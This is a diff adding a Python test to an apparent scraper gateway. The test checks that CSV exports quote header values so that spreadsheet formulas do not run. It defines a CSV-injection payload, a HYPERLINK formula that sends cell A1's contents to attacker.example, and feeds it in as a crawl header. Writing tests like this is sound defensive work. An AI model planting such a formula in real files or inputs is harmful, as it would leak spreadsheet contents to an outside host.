@@ -442,6 +442,49 @@ def test_the_manifest_lists_exactly_the_earlier_fetches_an_export_shows_for_the_
     assert rows[0]["content_sha256"] == manifest[0]["content_sha256"]
 
 
+FORMULA_ACCOUNT = '=HYPERLINK("https://attacker.example/?x="&A1,"details")'
+
+
+def test_a_csv_opened_in_a_spreadsheet_shows_what_the_scraper_sent_and_runs_no_formula(
+    workdir: Path, site: Site
+):
+    site.routes["/p.jpg"] = Reply(body=b"a photo", headers={"Content-Type": "image/jpeg"})
+    url = site.url("site-a.test", "/p.jpg")
+    sent = {"X-Crawl-Account": FORMULA_ACCOUNT, "X-Crawl-Project": "=1+2"}
+    with Gateway(workdir, base_policy()) as gw:
+        assert fetch(gw, url, team=OTHER_TEAM, token=OTHER_TOKEN, **sent).status == 200
+        status, filed = gw.admin_request(
+            "POST", "/v1/takedowns", ADMIN_TOKEN, takedown_body("url", url)
+        )
+        assert status == 201, filed
+        status, manifest_csv = gw.admin_request(
+            "GET", f"/v1/takedowns/{filed['id']}/manifest?format=csv", AUDITOR_TOKEN
+        )
+        assert status == 200
+        status, fetches_csv = gw.admin_request("GET", "/v1/fetches?format=csv", AUDITOR_TOKEN)
+        assert status == 200
+        status, manifest = gw.admin_request(
+            "GET", f"/v1/takedowns/{filed['id']}/manifest", AUDITOR_TOKEN
+        )
+    exported = cli("audit", "export", "--data-dir", gw.data_dir, "--format", "csv").stdout
+    # The fetch log and the JSON manifest keep what was sent ...
+    [row] = manifest["records"]
+    assert (row["account"], row["project"]) == (FORMULA_ACCOUNT, "=1+2")
+    # ... and every CSV shows it behind a quote, so that no cell is a formula (OWASP).
+    for name, text in (
+        ("manifest", manifest_csv),
+        ("GET /v1/fetches", fetches_csv),
+        ("audit export", exported),
+    ):
+        rows = list(csv.DictReader(io.StringIO(text)))
+        fetched = [r for r in rows if r["account"]]
+        assert [(r["account"], r["project"]) for r in fetched] == [
+            ("'" + FORMULA_ACCOUNT, "'=1+2")
+        ], name
+        formulas = [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r"]
+        assert formulas == [], name
+
+
 def test_teams_confirm_deletion_until_none_is_outstanding(workdir: Path, site: Site):
     with Gateway(workdir, base_policy()) as gw:
         url = site.url("site-a.test", "/gallery/1.jpg")
